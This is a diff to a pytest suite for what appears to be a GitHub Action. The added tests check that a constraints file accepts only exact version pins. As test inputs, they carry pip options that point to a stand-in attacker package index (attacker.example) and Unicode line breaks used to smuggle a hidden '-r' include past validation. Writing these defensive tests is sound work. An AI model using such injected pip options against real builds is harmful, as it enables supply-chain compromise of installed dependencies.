@@ -6,7 +6,9 @@ environment is an input (venv-path), and no test hook is left in the production 
 from __future__ import annotations
 
 import ast
+import shlex
 import shutil
+import sys
 
 import pytest
 
@@ -39,32 +41,60 @@ def test_comment_mode_without_the_artifact_fails_and_posts_nothing(make_runner, 
     assert github.issue_comments(REPO, PR) == []
 
 
+def python_that_installs_nothing(tmp_path) -> str:
+    """A python-path whose `-m venv` fails at once: the install step ends there, before pip reads anything."""
+    shim = tmp_path / "python"
+    shim.write_text("#!/usr/bin/env bash\n"
+                    'if [ "$1" = -m ] && [ "$2" = venv ]; then echo "no install in this test" >&2; exit 97; fi\n'
+                    f'exec {shlex.quote(sys.executable)} "$@"\n')
+    shim.chmod(0o755)
+    return str(shim)
+
+
+def installing(runner, tmp_path, constraints: str):
+    """Mode comment with a constraints input, through the plan of an install (not a ready venv)."""
+    (runner.workspace / "pins.txt").write_text(constraints, newline="")
+    return runner.run({"mode": "comment", "report-json": str(REPORTS / "pass.json"), "constraints": "pins.txt",
+                       "venv-path": "", "python-path": python_that_installs_nothing(tmp_path)}, token=TOKEN)
+
+
 @pytest.mark.parametrize(("line", "number"), [
     ("--index-url https://attacker.example/simple", 2), ("  -i https://attacker.example/simple", 2),
     ("numpy==2.0 --extra-index-url https://attacker.example/simple", 2), ("numpy @ https://attacker.example/n.whl", 2),
-    ("-r more.txt", 2), ("numpy==2.0 \\", 2)])
-def test_comment_mode_takes_only_names_and_versions_from_a_constraints_file(make_runner, github, line, number):
+    ("-r more.txt", 2), ("numpy==2.0 \\", 2), ("numpy>=1.0", 2), ("typer>=0.12 ; python_version >= '3.9'", 2)])
+def test_comment_mode_takes_only_pins_from_a_constraints_file(make_runner, github, tmp_path, line, number):
     runner = make_runner()
-    (runner.workspace / "pins.txt").write_text(f"rich==13.9.4\n{line}\n")
-    run = runner.run({"mode": "comment", "report-json": str(REPORTS / "pass.json"), "constraints": "pins.txt"},
-                     token=TOKEN)
+    run = installing(runner, tmp_path, f"rich==13.9.4\n{line}\n")
     assert run.returncode == 2
-    assert (f"constraints file '{runner.workspace}/pins.txt', line {number}: only names and versions are allowed in "
-            "mode comment (no pip options, URLs or line continuations)") in run.stdout
-    assert [s.id for s in run.steps if s.conclusion != "skipped"] == ["prep"]
+    assert (f"::error title=parity-gate::constraints file `{runner.workspace}/pins.txt`, line {number}: not a "
+            "`name==version` pin") in run.log
+    assert [s.id for s in run.steps if s.conclusion != "skipped"] == ["prep", "plan"]  # pip never ran
 
 
-def test_comment_mode_uses_a_pinning_constraints_input_and_never_the_checkouts_file(make_runner, github):
+@pytest.mark.parametrize("brk", ["\x1c", "\x1d", "\x1e", "\x85", "\x0b", "\x0c", "\u2028", "\u2029"])
+def test_a_line_break_only_pip_sees_cannot_smuggle_an_option_into_the_judging_install(make_runner, github, tmp_path,
+                                                                                        brk):
+    runner = make_runner()
+    (runner.workspace / "more.txt").write_text("--index-url https://attacker.example/simple\nevil-package\n")
+    run = installing(runner, tmp_path, f"rich==13.9.4\nnumpy>=1.0{brk}-r more.txt\n")
+    assert run.returncode == 2
+    assert f"constraints file `{runner.workspace}/pins.txt`, line 2: character U+{ord(brk):04X}" in run.log
+    assert [s.id for s in run.steps if s.conclusion != "skipped"] == ["prep", "plan"]
+
+
+def test_comment_mode_uses_a_pinning_constraints_input_and_never_the_checkouts_file(make_runner, github, tmp_path):
     runner = make_runner()
     (runner.workspace / "parity-gate-constraints.txt").write_text("--index-url https://attacker.example/simple\n")
     inputs = {"mode": "comment", "report-json": str(REPORTS / "pass.json")}
     run = runner.run(inputs, token=TOKEN)
     assert run.returncode == 0, run.log
     assert run.step("prep").outputs["constraints"] == "" and run.step("prep").outputs["cache"] == "false"
-    (runner.workspace / "pins.txt").write_text("# core pins\nrich==13.9.4\ntyper>=0.12 ; python_version >= '3.9'\n")
-    run = runner.run({**inputs, "constraints": "pins.txt"}, token=TOKEN)
-    assert run.returncode == 0, run.log
+    run = installing(runner, tmp_path, "# core pins\r\nrich==13.9.4  # the console\r\n\ntorch == 2.5.1+cpu\n")
     assert run.step("prep").outputs["constraints"] == f"{runner.workspace}/pins.txt"
+    given = run.step("plan").outputs["constraints"]  # what pip is handed: a copy holding the pins alone
+    assert given == f"{runner.temp}/parity-gate/constraints-pins.txt"
+    assert open(given).read() == "rich==13.9.4\ntorch==2.5.1+cpu\n"
+    assert run.step("install").returncode == 97  # the test's python-path stops the install there
 
 
 def test_the_checkouts_constraints_file_still_pins_the_modes_that_run_models(make_runner, github):
